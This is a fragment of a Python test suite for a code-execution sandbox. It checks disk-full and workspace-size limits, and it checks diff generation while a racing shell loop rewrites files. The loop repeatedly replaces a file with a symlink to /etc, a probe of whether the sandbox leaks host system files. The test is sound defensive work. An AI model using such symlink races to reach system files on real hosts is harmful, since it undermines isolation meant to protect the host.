            "except OSError as e:\n    print(errno.errorcode[e.errno])"
        )
        r = sb.call("run_python", {"code": fill})
        assert r.ok and r.result["stdout"] == "ENOSPC\n", r
        w = sb.call("write_file", {"path": "/workspace/more", "content": "y" * (3 << 20)})
        assert not w.ok and "limits.workspace_copy" in str(w.error), w
        assert set(sb.changes().removed) == {"a.txt", "sub/b.bin", "run.sh", "up"}
    assert tree(ws) == before


# 5. changes() while code races it -----------------------------------------------------------------


def test_changes_while_code_rewrites_the_copy(engine: Any, tmp_path: Path) -> None:
    """While code rewrites a file (growing and shrinking), swaps another between a file and a symlink to /etc
    and makes and removes a directory, changes() runs again and again: each returns within its bound, and each
    diff applies to a fresh copy of the host's directory."""
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "r.txt").write_text("start\n")
    (ws / "t").write_text("t\n")
    (ws / "keep.txt").write_text("keep\n")
    # it races until told to stop, not for a fixed time: on a loaded host its start can come after any sleep
    race = (
        "cd /workspace; i=0; while [ ! -e /scratch/stop ]; do i=$((i+1));"
        " head -c $((i % 7000)) /dev/urandom > r.txt; rm -f t; ln -s /etc t; rm -f t; echo $i > t;"
        " mkdir -p n; echo $i > n/f; rm -rf n; done"
    )
    policy = {"timeouts": LONG, "limits": {"concurrency": 2}}
    with Sandbox(policy, workspace=ws, workspace_mode="copy") as sb:
        racer = threading.Thread(target=sb.call, args=("run_shell", {"command": race}))
        racer.start()

        def check(where: str) -> set[str]:
            t0 = time.monotonic()
            got = sb.changes()
            assert time.monotonic() - t0 < 30
            assert "keep.txt" not in got.paths
            if got.diff:
                applies(got.diff, ws, tmp_path / where)
            return set(got.paths)

        try:
            waited, deadline = 0, time.monotonic() + 60  # a failure's bound, not a margin: the race starts first
            while "r.txt" not in check(f"before{waited}"):  # its first write: the race runs, not missed
                waited += 1
                assert time.monotonic() < deadline, "the racing call never wrote r.txt"
            for i in range(8):
                check(f"applied{i}")  # all 8 while it races: it stops only when told
        finally:
            shell(sb, "touch /scratch/stop")
            racer.join()
        final = sb.changes()
        assert final.changed and set(final.paths) <= {"r.txt", "t"}
        applies(final.diff, ws, tmp_path / "applied-final")
